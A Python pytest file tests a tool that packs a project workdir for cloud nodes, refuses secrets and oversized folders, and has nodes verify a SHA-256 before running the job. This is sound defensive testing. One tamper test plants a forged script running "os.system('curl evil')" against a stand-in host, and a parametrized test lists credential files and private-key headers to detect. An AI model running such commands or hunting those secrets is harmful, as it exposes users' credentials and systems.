"""The workdir that ships to every node: packed reproducibly, size-checked, secrets refused in one line; on a
node the startup script rebuilds it from instance metadata, checks its SHA-256 and runs the command from it."""

from __future__ import annotations

import hashlib
import io
import json
import os
import sys
import tarfile
import time
from pathlib import Path

import pytest

from cloudfit.errors import UsageError
from cloudfit.executors import workdir as wd


def _project(tmp_path: Path) -> Path:
    d = tmp_path / "proj"
    (d / "pkg").mkdir(parents=True)
    (d / "train.py").write_text("print('hello')\n")
    (d / "pkg" / "model.py").write_text("X = 1\n")
    (d / "conf.yaml").write_text("lr: 0.1\n")
    for skipped in (".git", "__pycache__", ".venv"):
        (d / skipped).mkdir()
        (d / skipped / "junk").write_text("x" * 100)
    (d / "pkg" / "model.pyc").write_bytes(b"\0" * 10)
    return d


def test_pack_ships_the_code_skips_caches_and_is_reproducible(tmp_path):
    d = _project(tmp_path)
    a = wd.pack(d)
    assert [p for p, _ in a.files] == ["conf.yaml", "pkg/model.py", "train.py"]
    assert dict(a.files)["train.py"] == len("print('hello')\n") and a.total == sum(n for _, n in a.files)
    assert a.sha256 == hashlib.sha256(a.tar_gz).hexdigest()
    os.utime(d / "train.py", (1e9, 1e9))  # a touched file packs to the same bytes
    assert wd.pack(d).sha256 == a.sha256
    with tarfile.open(fileobj=io.BytesIO(a.tar_gz), mode="r:gz") as t:
        assert sorted(t.getnames()) == ["conf.yaml", "pkg/model.py", "train.py"]
    out = wd.unpack(a.tar_gz, a.sha256, tmp_path / "node")
    assert (out / "pkg" / "model.py").read_text() == "X = 1\n"


@pytest.mark.parametrize("name,content", [
    (".env", "AWS_SECRET_ACCESS_KEY=x"), ("server.pem", "x"), ("deploy.key", "x"), ("id_rsa", "x"),
    ("credentials-prod.json", "{}"), (".netrc", "machine x"),
    ("sa.json", json.dumps({"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\n"})),
    ("notes.txt", "-----BEGIN OPENSSH PRIVATE KEY-----\nabc"),
])
def test_a_secret_is_refused_in_one_line_naming_it(tmp_path, name, content):
    d = _project(tmp_path)
    (d / "pkg" / name).write_text(content)
    with pytest.raises(UsageError) as e:
        wd.pack(d)
    msg = str(e.value)
    assert f"pkg/{name}" in msg and "\n" not in msg


def test_a_folder_too_large_is_refused_naming_its_biggest_files(tmp_path):
    d = _project(tmp_path)
    (d / "weights.bin").write_bytes(os.urandom(300_000))
    (d / "data.csv").write_bytes(b"1,2\n" * 50_000)
    with pytest.raises(UsageError) as e:
        wd.pack(d, max_bytes=256_000)
    msg = str(e.value)
    assert "weights.bin" in msg and "data.csv" in msg and "\n" not in msg
    assert msg.index("weights.bin") < msg.index("data.csv")  # biggest first


def test_a_tampered_archive_is_refused(tmp_path):
    a = wd.pack(_project(tmp_path))
    bad = bytearray(a.tar_gz)
    bad[len(bad) // 2] ^= 0xFF
    with pytest.raises(UsageError, match="checksum"):
        wd.unpack(bytes(bad), a.sha256, tmp_path / "node")
    assert not (tmp_path / "node" / "train.py").exists()


def test_the_command_runs_from_the_scripts_folder_on_a_node(tmp_path):
    d = _project(tmp_path)
    cmd = ("python", str(d / "train.py"), "--config", str(d / "conf.yaml"), "--lr", "0.1")
    assert wd.script_folder(cmd) == d.resolve()
    assert wd.node_command(cmd, d.resolve()) == ("python", "train.py", "--config", "conf.yaml", "--lr", "0.1")
    assert wd.script_folder(("python", "-m", "mypkg.train")) is None


def test_stack_files_join_the_archive_at_its_root(tmp_path):
    d = _project(tmp_path)
    a = wd.pack(d, extra={"cloudfit_job.toml": "[job]\n", "conf.yaml": "lr: 0.2\n"})
    names = dict(a.files)
    assert names["cloudfit_job.toml"] == 6 and names["conf.yaml"] == len("lr: 0.2\n")  # the stack's replaces
    only = wd.pack(None, extra={"cloudfit_layout.json": "{}"})
    assert [p for p, _ in only.files] == ["cloudfit_layout.json"]
    with pytest.raises(UsageError):
        wd.pack(None, extra={"../escape": "x"})


# ----------------------------------------------------------------------------- on a node (startup script)

def _startup(tmp_path: Path, packed, command: tuple[str, ...], chunks: dict[str, str]):
    """Run the real rendered startup script off GCP (fake metadata server): it rebuilds the workdir from the
    metadata chunks, checks the SHA-256, cds into it and runs ``command`` under torchrun."""
    from cloudfit.executors.base import JobSpec, RunSpec
    from cloudfit.executors.gcp import render_startup_script
    from cloudfit.types import ClusterConfig
    from tests.executors.plans import offering
    from tests.executors.conftest import run_startup

    spec = RunSpec("boot", (ClusterConfig(offering(), 1, True),), JobSpec(command=command, workdir=packed), 1.0)
    script = render_startup_script(spec, spec.configs[0], str(tmp_path / "ckpt"))
    return run_startup(script, {"cloudfit-node-rank": "0", "cloudfit-nnodes": "1", "cloudfit-master-addr": "self",
                                "cloudfit-stop-at": f"{time.time() + 600:.0f}", **chunks}, tmp_path / "work", tmp_path)


def _node_project(tmp_path: Path) -> Path:
    d = tmp_path / "laptop" / "proj"
    (d / "pkg").mkdir(parents=True)
    (d / "pkg" / "__init__.py").write_text("")
    (d / "pkg" / "data.py").write_text("ANSWER = 42\n")
    # the script proves it runs from the unpacked folder: it imports its sibling package and writes where it ran
    (d / "train.py").write_text(
        "import os, pathlib, sys\nsys.path.insert(0, os.getcwd())\nfrom pkg.data import ANSWER\n"
        "if os.environ.get('RANK', '0') == '0':\n"
        "    pathlib.Path(os.environ['CLOUDFIT_WORK_DIR_SEEN']).write_text(f'{os.getcwd()} {ANSWER}')\n")
    return d


def test_the_node_rebuilds_checks_and_runs_the_shipped_script(tmp_path, monkeypatch):
    d = _node_project(tmp_path)
    seen = tmp_path / "seen.txt"
    monkeypatch.setenv("CLOUDFIT_WORK_DIR_SEEN", str(seen))
    packed = wd.pack(d)
    cmd = wd.node_command((sys.executable, str(d / "train.py")), Path(packed.folder))
    assert cmd[1] == "train.py"  # not the laptop's path
    p, md = _startup(tmp_path, packed, cmd, packed.chunks(chunk=200))  # several metadata values, reassembled
    assert p.returncode == 0, p.stdout[-2000:] + p.stderr[-2000:]
    where, answer = seen.read_text().split()
    assert Path(where) == tmp_path / "work" / "workdir" and answer == "42"
    assert (tmp_path / "work" / "workdir" / "pkg" / "data.py").read_text() == "ANSWER = 42\n"
    assert md.guest["cloudfit/state"] == "completed"


def test_the_node_refuses_a_tampered_workdir_and_runs_nothing(tmp_path, monkeypatch):
    d = _node_project(tmp_path)
    seen = tmp_path / "seen.txt"
    monkeypatch.setenv("CLOUDFIT_WORK_DIR_SEEN", str(seen))
    packed = wd.pack(d)
    forged = wd.pack(d, extra={"train.py": "import os; os.system('curl evil')\n"})  # valid archive, other bytes
    chunks = {k: v for k, v in forged.chunks().items()}
    p, md = _startup(tmp_path, packed, (sys.executable, "train.py"), chunks)
    assert p.returncode == 1
    assert md.guest["cloudfit/state"] == "failed" and "sha256" in md.guest["cloudfit/error"]
    assert not seen.exists() and not (tmp_path / "work" / "workdir" / "train.py").exists()
